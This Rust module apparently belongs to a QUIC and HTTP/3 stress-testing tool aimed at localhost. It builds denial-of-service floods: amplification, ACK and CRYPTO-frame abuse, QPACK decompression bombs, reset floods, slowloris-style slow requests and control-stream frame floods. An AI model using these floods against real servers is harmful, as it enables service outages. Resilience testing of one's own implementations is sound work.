//! The floods of each attack over QUIC and HTTP/3 (RFC 9114).

use super::flood::{Acks, Bytes, DRIBBLED_FROM, Flood, Repeated};
use crate::attack::Kind;
use crate::quic::peer::Windows;
use crate::quic::varint;

/// What the connections of one variant do.
#[derive(Debug)]
pub(super) struct Script {
    pub(super) variant: &'static str,
    pub(super) flood: Flood,
    pub(super) windows: Windows,
}

/// A control stream with empty SETTINGS.
pub(super) const CONTROL: &[u8] = b"\x00\x04\x00";

/// Indexed lines of QPACK's static table (RFC 9204 §A), and lines that have their names there.
mod line {
    pub(super) const GET: u8 = 0xd1;
    pub(super) const POST: u8 = 0xd4;
    pub(super) const HTTPS: u8 = 0xd7;
    pub(super) const ROOT: u8 = 0xc1;
    pub(super) const PATH: u8 = 0x51;
    pub(super) const AUTHORITY: &[u8] = b"\x50\x09localhost";
    /// `content-security-policy: script-src 'none'; object-src 'none'; base-uri 'none'`: the longest.
    pub(super) const LONGEST: &[u8] = &[0xff, 85 - 63];
    /// A literal with the name `cookie`, and a value in Huffman's code.
    pub(super) const COOKIE: u8 = 0x55;
}

/// DATA, HEADERS and the like.
fn frame_of(kind: u64, payload: &[u8]) -> Bytes {
    let mut frame = Vec::new();
    varint(&mut frame, kind);
    varint(&mut frame, payload.len() as u64);
    frame.extend_from_slice(payload);
    frame
}

const DATA: u64 = 0x00;
const HEADERS: u64 = 0x01;
const SETTINGS: u64 = 0x04;
const MAX_PUSH_ID: u64 = 0x0d;
const RESERVED: u64 = 0x21;
const PRIORITY_UPDATE: u64 = 0xf0700;

fn section(method: u8, path: &str) -> Bytes {
    let mut section = vec![0, 0, method, line::HTTPS];
    section.extend_from_slice(line::AUTHORITY);
    if path == "/" {
        section.push(line::ROOT);
    } else {
        section.push(line::PATH);
        prefixed_length(&mut section, 0, 7, path.len());
        section.extend_from_slice(path.as_bytes());
    }
    section
}

/// A number of QPACK with a prefix of so many bits (RFC 7541 §5.1).
fn prefixed_length(out: &mut Bytes, flags: u8, bits: u8, value: usize) {
    let max = (1 << bits) - 1;
    if value < max {
        return out.push(flags | value as u8);
    }
    out.push(flags | max as u8);
    let mut rest = value - max;
    while rest >= 0x80 {
        out.push(rest as u8 | 0x80);
        rest >>= 7;
    }
    out.push(rest as u8);
}

/// A whole request.
pub(super) fn get(path: &str) -> Bytes {
    frame_of(HEADERS, &section(line::GET, path))
}

/// A request and the header of a DATA frame that holds more than anybody sends.
pub(super) fn post() -> Bytes {
    let mut bytes = frame_of(HEADERS, &section(line::POST, "/"));
    varint(&mut bytes, DATA);
    varint(&mut bytes, 1 << 29);
    bytes
}

/// A request with so many references to the longest entry of the static table.
fn references(count: usize) -> Bytes {
    let section = [section(line::GET, "/"), line::LONGEST.repeat(count)].concat();
    frame_of(HEADERS, &section)
}

/// A request with so many bytes of Huffman's code, each of which stands for more than one and a half.
fn huffman(len: usize) -> Bytes {
    let mut section = section(line::GET, "/");
    section.push(line::COOKIE);
    prefixed_length(&mut section, 0x80, 7, len);
    // Five bits of 0 are a `0`.
    section.resize(section.len() + len, 0);
    frame_of(HEADERS, &section)
}

/// A request that waits for the encoder's next insertion (RFC 9204 §4.5.1.1).
fn blocked() -> Bytes {
    let mut section = section(line::GET, "/");
    // Required Insert Count 1, Base 1, and a reference to that entry.
    section[0] = 2;
    section.push(0x80);
    frame_of(HEADERS, &section)
}

/// What the floods of requests have in common.
fn requests(bytes: Bytes, ends: bool) -> Flood {
    Flood::Requests {
        bytes,
        ends,
        resets: false,
        stops: false,
        exceeds: false,
    }
}

fn cancelled(bytes: Bytes, ends: bool, resets: bool, stops: bool) -> Flood {
    Flood::Requests {
        bytes,
        ends,
        resets,
        stops,
        exceeds: false,
    }
}

fn exceeding(bytes: Bytes) -> Flood {
    Flood::Requests {
        bytes,
        ends: true,
        resets: false,
        stops: false,
        exceeds: true,
    }
}

/// Frames on the control stream, behind SETTINGS.
fn control(again: Bytes) -> Flood {
    Flood::OwnStream {
        first: CONTROL.to_vec(),
        again,
    }
}

/// Instructions of QPACK's encoder.
fn encoder(instructions: &[u8]) -> Flood {
    Flood::OwnStream {
        first: vec![0x02],
        again: instructions.to_vec(),
    }
}

fn frames(frame: Repeated, alone: bool) -> Flood {
    Flood::Frames { frame, alone }
}

/// What every connection of an attack does, one variant after the other.
pub(super) fn scripts(kind: Kind) -> Vec<Script> {
    let floods = match kind {
        Kind::QpackBomb
        | Kind::QpackBlocked
        | Kind::H3Flood
        | Kind::H3Reset
        | Kind::H3Control
        | Kind::H3Slow => of_http(kind),
        _ => of_quic(kind),
    };
    let script = |(variant, flood): (&'static str, Flood)| {
        let stream = match &flood {
            Flood::SlowReads { dribbles: true, .. } => DRIBBLED_FROM,
            Flood::SlowReads { .. } => 0,
            _ => 1 << 40,
        };
        Script {
            variant,
            windows: Windows {
                connection: 1 << 40,
                stream,
            },
            flood,
        }
    };
    floods.into_iter().map(script).collect()
}

fn of_quic(kind: Kind) -> Vec<(&'static str, Flood)> {
    match kind {
        Kind::QuicAmplification => vec![
            ("patient", Flood::Hellos { once: true }),
            ("hurried", Flood::Hellos { once: false }),
            ("repeated", Flood::SameHello),
        ],
        Kind::QuicHalfOpen => vec![("proved", Flood::HalfOpen)],
        Kind::QuicCrypto => vec![
            ("holes", Flood::CryptoHoles { from: 0 }),
            ("far", Flood::CryptoHoles { from: 1 << 20 }),
            ("endless", Flood::CryptoForever),
        ],
        Kind::QuicTokens => vec![
            ("short", Flood::Tokens { len: 32 }),
            ("long", Flood::Tokens { len: 700 }),
        ],
        Kind::QuicTiny => vec![
            ("one-byte", Flood::Noise { len: 1 }),
            ("unknown-ids", Flood::Noise { len: 21 }),
            ("large-unknown", Flood::Noise { len: 1200 }),
            ("forged", Flood::Forged),
            ("bytes", Flood::Bytes { holes: false }),
            ("holes", Flood::Bytes { holes: true }),
        ],
        Kind::QuicIds => vec![
            ("retire", frames(Repeated::RetireId, false)),
            ("new", frames(Repeated::NewId, false)),
        ],
        Kind::QuicAcks => vec![
            ("unsent", Flood::Acks(Acks::Unsent)),
            ("skipped", Flood::Acks(Acks::Skipped)),
            ("ahead", Flood::Acks(Acks::Ahead)),
        ],
        Kind::QuicMigration => vec![
            ("silent", Flood::Moving { answers: false }),
            ("answered", Flood::Moving { answers: true }),
        ],
        _ => vec![
            ("pings", frames(Repeated::Ping, true)),
            ("full-pings", frames(Repeated::Ping, false)),
            ("challenges", frames(Repeated::PathChallenge, false)),
            ("windows", frames(Repeated::MaxData, false)),
        ],
    }
}

fn of_http(kind: Kind) -> Vec<(&'static str, Flood)> {
    let whole = || get("/");
    match kind {
        Kind::H3Flood => vec![
            ("whole", requests(whole(), true)),
            ("exceeding", exceeding(whole())),
            (
                "reset",
                cancelled(whole()[..4].to_vec(), false, true, false),
            ),
            ("unknown", Flood::OwnStreams { resets: false }),
            ("unknown-reset", Flood::OwnStreams { resets: true }),
        ],
        Kind::H3Reset => vec![
            ("whole", cancelled(whole(), false, true, true)),
            ("unfinished", cancelled(post(), false, true, false)),
            ("stopped", cancelled(whole(), true, false, true)),
        ],
        Kind::QpackBomb => vec![
            ("modest", requests(references(90), true)),
            ("references", requests(references(380), true)),
            ("huffman", requests(huffman(9_000), true)),
            ("literals", requests(huffman(60_000), true)),
            ("table", encoder(b"\x3f\xe1\x1f\xc0\x7f\xa1\x1f")),
        ],
        Kind::QpackBlocked => vec![
            ("blocked", requests(blocked(), true)),
            // Stream Cancellation, on the decoder's stream.
            (
                "cancelled",
                Flood::OwnStream {
                    first: vec![0x03],
                    again: vec![0x40],
                },
            ),
        ],
        Kind::H3Slow => vec![
            (
                "heads",
                Flood::SlowRequests {
                    bytes: get("/slow/and/slower/and/slower"),
                    streams: 8,
                },
            ),
            (
                "content",
                Flood::SlowRequests {
                    bytes: post(),
                    streams: 8,
                },
            ),
            (
                "unread",
                Flood::SlowReads {
                    streams: 8,
                    dribbles: false,
                },
            ),
            (
                "dribble",
                Flood::SlowReads {
                    streams: 8,
                    dribbles: true,
                },
            ),
        ],
        _ => vec![
            ("settings", control(frame_of(SETTINGS, b""))),
            ("priorities", control(frame_of(PRIORITY_UPDATE, b"\x00u=1"))),
            ("reserved", control(frame_of(RESERVED, b"grease"))),
            ("push-ids", control(frame_of(MAX_PUSH_ID, b"\x01"))),
            (
                "reserved-on-requests",
                requests(frame_of(RESERVED, b"").repeat(200), true),
            ),
            (
                "empty-data",
                requests([whole(), frame_of(DATA, b"").repeat(200)].concat(), true),
            ),
        ],
    }
}
